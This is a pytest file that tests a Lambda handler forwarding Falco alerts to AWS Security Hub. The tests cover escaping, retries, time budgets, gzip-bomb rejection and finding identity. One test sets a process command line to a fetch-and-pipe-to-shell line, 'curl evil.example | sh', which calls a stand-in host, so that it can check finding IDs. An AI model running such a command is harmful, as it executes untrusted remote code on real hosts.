"""Drills at the edges (issue 10): the real handler against moto Security Hub, faults injected
below botocore's retry layer. Each test asserts the exact findings in Security Hub.

* hostile text never reaches Security Hub unescaped;
* a warm container keeps its retries however many throttling storms it served;
* the time budget gives up cleanly (summary, metrics, raise) before Lambda's timeout;
* strict envelopes, over-long integers, identity, bounded caches.
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import time
from typing import Any

import pytest
from aws_fakes import (
    REGION,
    FakeLambdaContext,
    HttpFaults,
    falco_alert,
    fluent_bit_log_record,
    log_lines,
    stored_findings,
    subscription_event,
    subscription_payload,
)
from botocore.exceptions import ReadTimeoutError
from botocore.retries import standard

from handlers import alerts, classification, findings, ingest, securityhub
from handlers.ingest import ImportFailed, OutOfTime

# --- fixtures (as in test_ingest.py) ------------------------------------------------------------


pytestmark = pytest.mark.usefixtures("ingest_environment")


def emf_value(text: str, name: str) -> float:
    for line in text.splitlines():
        if line.startswith("{") and '"_aws"' in line:
            doc = json.loads(line)
            if name in doc and "Reason" not in doc:
                value = doc[name]
                return float(sum(value) if isinstance(value, list) else value)
    raise AssertionError(f"no EMF metric {name}")


def records(count: int, start: int = 0) -> list[str]:
    return [fluent_bit_log_record(falco_alert(n)) for n in range(start, start + count)]


# --- safe text ----------------------------------------------------------------------------------

# Right-to-left override, line and paragraph separators, NEL (C1), zero-width space and joiner,
# a BOM, an escape (C0), DEL: none may reach Security Hub as itself.
HOSTILE = "\u202e\u2028\u2029\u0085\u200b\u200d\ufeff\x1b\x7f\u2066"


def test_hostile_characters_reach_security_hub_only_escaped(wire: HttpFaults) -> None:
    alert = falco_alert(1, rule=f"Shell{HOSTILE}spawned", tags=["mitre_execution", f"t{HOSTILE}"])
    fields = alert["output_fields"]
    fields["proc.name"] = f"gnp{HOSTILE}.sh"
    fields["proc.exepath"] = f"/tmp/{HOSTILE}hs.exe"
    fields["proc.cmdline"] = f"bash -c 'cat{HOSTILE}'"
    fields["container.name"] = f"checkout{HOSTILE}"
    fields["container.image.repository"] = f"repo{HOSTILE}"
    fields[f"weird{HOSTILE}.key"] = "v"
    alert["output"] = f"03:02:01.000000001: Notice shell {HOSTILE} spawned"
    message = fluent_bit_log_record(alert, node_name=f"node{HOSTILE}", instance_id=None)

    summary = ingest.handler(subscription_event([message]), FakeLambdaContext())

    assert summary["imported"] == 1
    (stored,) = stored_findings(REGION)
    text = json.dumps(stored, ensure_ascii=False)
    assert not set(HOSTILE) & set(text)
    assert stored["Process"]["Name"].startswith("gnp\\u202e\\u2028\\u2029\\x85")
    assert "\\u202e" in stored["Title"]
    assert "\\u202e" in stored["Description"]
    assert "\\u202e" in stored["ProductFields"]["falco/output_fields/proc.cmdline"]


# --- retries that do not run out ----------------------------------------------------------------


def test_a_warm_client_keeps_its_retries_over_many_throttling_storms(
    hub: Any, wire: HttpFaults
) -> None:
    # botocore's quota: 500 tokens, 5 per retried throttling error. 4 throttled attempts before
    # each success spend 20 tokens and give back 1: without a refill the quota is gone after
    # about 26 invocations, and later 429s fail at their first attempt.
    invocations = 40
    for n in range(invocations):
        wire.throttle(times=4)
        summary = ingest.handler(subscription_event(records(1, start=n)), FakeLambdaContext())
        assert summary["imported"] == 1, f"invocation {n}"
    assert ingest.securityhub_client(REGION) is hub  # one cached client throughout
    assert wire.answered == [429, 429, 429, 429, 200] * invocations
    assert len(stored_findings(REGION)) == invocations


def test_without_the_refill_the_warm_client_would_give_up(
    hub: Any, wire: HttpFaults, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The drill above can fail: botocore's quota does run out when nothing refills it.
    monkeypatch.setattr(securityhub, "refill_retry_quota", lambda client: True)

    def storms() -> None:
        for n in range(40):
            wire.throttle(times=4)
            ingest.handler(subscription_event(records(1, start=n)), FakeLambdaContext())

    with pytest.raises(ImportFailed, match="TooManyRequestsException"):
        storms()


def test_botocore_keeps_the_retry_quota_where_the_handler_refills_it(hub: Any) -> None:
    (checker,) = securityhub._RetryQuota.find(hub)
    assert isinstance(checker, standard.RetryQuotaChecker)
    checker._quota.acquire(500)
    assert checker._quota.available_capacity == 0
    assert securityhub.refill_retry_quota(hub)
    assert checker._quota.available_capacity == 500


# --- time budget --------------------------------------------------------------------------------


class SimulatedClock:
    """The Lambda context's remaining time, driven by what the handler waits for: each HTTP
    attempt costs ``attempt_seconds``, each botocore backoff and handler sleep its length."""

    def __init__(self, timeout_seconds: float, attempt_seconds: float) -> None:
        self.timeout = timeout_seconds
        self.attempt_seconds = attempt_seconds
        self.elapsed = 0.0
        self.first_throttle: float | None = None

    def get_remaining_time_in_millis(self) -> int:
        return int((self.timeout - self.elapsed) * 1000)


class TimedContext(FakeLambdaContext):
    clock: SimulatedClock

    def get_remaining_time_in_millis(self) -> int:
        return self.clock.get_remaining_time_in_millis()


@pytest.fixture
def clock(hub: Any, monkeypatch: pytest.MonkeyPatch) -> SimulatedClock:
    simulated = SimulatedClock(timeout_seconds=180, attempt_seconds=0.05)
    recording = standard.ExponentialBackoff.delay_amount  # fast_botocore_retries': records

    def delay_amount(self: Any, context: Any) -> float:
        recording(self, context)
        simulated.elapsed += hub.backoff.delays[-1]  # the real policy's delay, not slept
        return 0.0

    monkeypatch.setattr(standard.ExponentialBackoff, "delay_amount", delay_amount)

    def sleep(seconds: float) -> None:
        simulated.elapsed += seconds

    monkeypatch.setattr(time, "sleep", sleep)

    def tick(request: Any, **_: Any) -> None:
        simulated.elapsed += simulated.attempt_seconds

    hub.meta.events.register_first("before-send.securityhub.BatchImportFindings", tick)
    return simulated


def test_sustained_throttling_ends_in_a_clean_logged_give_up_before_the_timeout(
    wire: HttpFaults, clock: SimulatedClock, logs: io.StringIO, capsys: pytest.CaptureFixture[str]
) -> None:
    count = 3000  # 30 requests; under sustained throttling each takes ~7.5 s of backoff
    event = subscription_event(records(count))
    wire.throttle(times=10_000)  # every attempt is throttled
    context = TimedContext()
    context.clock = clock

    with pytest.raises(OutOfTime, match="were not sent: the invocation's time budget ran out"):
        ingest.handler(event, context)

    given_up_at = clock.elapsed
    assert given_up_at < 180 - ingest.WRAP_UP_SECONDS
    # No request started with less than the margin left.
    assert clock.timeout - given_up_at >= ingest.WRAP_UP_SECONDS
    lines = log_lines(logs)
    (summary,) = [line for line in lines if line["message"] == "invocation summary"]
    assert summary["imported"] == 0
    assert summary["failed"] + summary["not_sent"] == count
    assert summary["not_sent"] > 0
    assert any(line["message"] == "time budget exhausted: findings not sent" for line in lines)
    out = capsys.readouterr().out
    assert emf_value(out, "FindingsNotSent") == summary["not_sent"]
    assert emf_value(out, "ImportFailures") == summary["failed"]
    assert stored_findings(REGION) == []
    print(f"throttling onset to give-up: {given_up_at:.1f} s of a 180 s timeout")


def test_a_hung_endpoint_ends_in_a_give_up_before_the_timeout(
    wire: HttpFaults, clock: SimulatedClock, logs: io.StringIO
) -> None:
    clock.attempt_seconds = securityhub.CONNECT_TIMEOUT_SECONDS + securityhub.READ_TIMEOUT_SECONDS

    def hang(request: Any, **_: Any) -> None:
        raise ReadTimeoutError(endpoint_url=request.url)

    wire.client.meta.events.register_first("before-send.securityhub.BatchImportFindings", hang)
    context = TimedContext()
    context.clock = clock
    try:
        with pytest.raises(OutOfTime):
            ingest.handler(subscription_event(records(1000)), context)
    finally:
        wire.client.meta.events.unregister("before-send.securityhub.BatchImportFindings", hang)
    assert clock.elapsed < clock.timeout - ingest.WRAP_UP_SECONDS
    (summary,) = [line for line in log_lines(logs) if line["message"] == "invocation summary"]
    assert summary["failed"] + summary["not_sent"] == 1000
    assert summary["not_sent"] >= 800  # at most two requests could be tried


def test_redelivery_after_a_give_up_imports_the_rest_once(
    wire: HttpFaults, clock: SimulatedClock
) -> None:
    event = subscription_event(records(500))
    context = TimedContext()
    context.clock = clock
    clock.attempt_seconds = 60  # a slow Security Hub: two requests fit before the margin
    with pytest.raises(OutOfTime, match="300 of 500 findings were not sent"):
        ingest.handler(event, context)
    assert len(stored_findings(REGION)) == 200
    clock.elapsed, clock.attempt_seconds = 0, 0.05
    summary = ingest.handler(event, context)  # Lambda's retry of the same event
    assert summary["imported"] == 500
    assert len(stored_findings(REGION)) == 500


# --- strict envelopes, long integers ------------------------------------------------------------


def _payload_bytes(count: int) -> bytes:
    payload = subscription_payload(records(count))
    return gzip.compress(json.dumps(payload).encode())


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (_payload_bytes(2) + _payload_bytes(3), "a second gzip member or trailing bytes"),
        (_payload_bytes(2) + b"\x00garbage", "bytes after its gzip stream"),
        (_payload_bytes(2)[:-12], "cut gzip stream"),
    ],
)
def test_a_payload_with_more_than_one_gzip_member_is_refused(
    wire: HttpFaults, data: bytes, message: str
) -> None:
    event = {"awslogs": {"data": base64.b64encode(data).decode()}}
    with pytest.raises(alerts.InvalidEvent, match=message):
        ingest.handler(event, FakeLambdaContext())
    assert stored_findings(REGION) == []


def test_a_gzip_bomb_is_refused() -> None:
    bomb = gzip.compress(b" " * (alerts.MAX_DECOMPRESSED_BYTES + 1))
    with pytest.raises(alerts.InvalidEvent, match="inflates to more than"):
        alerts.decode_subscription_event({"awslogs": {"data": base64.b64encode(bomb).decode()}})


def test_an_over_long_integer_keeps_its_alert_with_the_reason_logged(
    wire: HttpFaults, logs: io.StringIO
) -> None:
    alert = falco_alert(7)
    line = fluent_bit_log_record(alert)
    digits = "9" * 5000
    line = line.replace('\\"user.uid\\":0', f'\\"user.uid\\":{digits}')
    assert digits in line

    summary = ingest.handler(subscription_event([line]), FakeLambdaContext())

    assert summary["imported"] == 1
    assert summary["skipped"] == {}
    (stored,) = stored_findings(REGION)
    assert stored["ProductFields"]["falco/output_fields/user.uid"].startswith("9999")
    (note,) = [entry for entry in log_lines(logs) if entry["message"] == "record kept with a note"]
    assert note["note"] == "an integer of 5000 digits (more than 4300) was kept as text"


# --- identity -----------------------------------------------------------------------------------


def test_alerts_differing_only_in_output_fields_get_different_ids(wire: HttpFaults) -> None:
    first = falco_alert(3)
    second = json.loads(json.dumps(first))
    second["output_fields"]["proc.cmdline"] = "bash -c 'curl evil.example | sh'"
    for alert in (first, second):  # separate invocations: no in-batch de-duplication helps
        ingest.handler(subscription_event([fluent_bit_log_record(alert)]), FakeLambdaContext())
    assert len(stored_findings(REGION)) == 2
    # Re-delivery stays idempotent.
    ingest.handler(subscription_event([fluent_bit_log_record(first)]), FakeLambdaContext())
    assert len(stored_findings(REGION)) == 2


# --- bounded caches -----------------------------------------------------------------------------


def test_alerts_with_10000_tags_do_not_grow_the_caches(wire: HttpFaults) -> None:
    def cached_entries() -> int:
        return (
            classification.mitre_types.cache_info().currsize  # type: ignore[attr-defined]
            + findings._string_tag_facts.cache_info().currsize  # type: ignore[attr-defined]
            + findings._cached_field_key.cache_info().currsize
            + findings._rule_facts.cache_info().currsize  # type: ignore[attr-defined]
        )

    ingest.handler(subscription_event(records(1)), FakeLambdaContext())
    before = cached_entries()
    for n in range(20):
        alert = falco_alert(
            n, rule="R" * 5000 + str(n), tags=[f"tag-{n}-{i}" for i in range(10_000)]
        )
        alert["output_fields"][f"{'k' * 300}{n}"] = "v"
        ingest.handler(subscription_event([fluent_bit_log_record(alert)]), FakeLambdaContext())
    assert cached_entries() == before
    assert len(stored_findings(REGION)) == 21


def test_an_event_with_many_distinct_alerts_and_one_storm_lands_exactly(wire: HttpFaults) -> None:
    storm = [
        fluent_bit_log_record(falco_alert(1, time=f"2026-03-14T03:02:01.{i:09d}Z"))
        for i in range(2000)
    ]
    distinct = records(150, start=10)
    summary = ingest.handler(subscription_event(storm + distinct), FakeLambdaContext())
    assert summary["findings"] == 151
    assert summary["coalesced"] == 1999
    assert len(stored_findings(REGION)) == 151
    (stormed,) = [
        f for f in stored_findings(REGION) if f["ProductFields"].get("falco/occurrences") == "2000"
    ]
    assert stormed["FirstObservedAt"] == "2026-03-14T03:02:01.000000000Z"
    assert stormed["LastObservedAt"] == "2026-03-14T03:02:01.000001999Z"
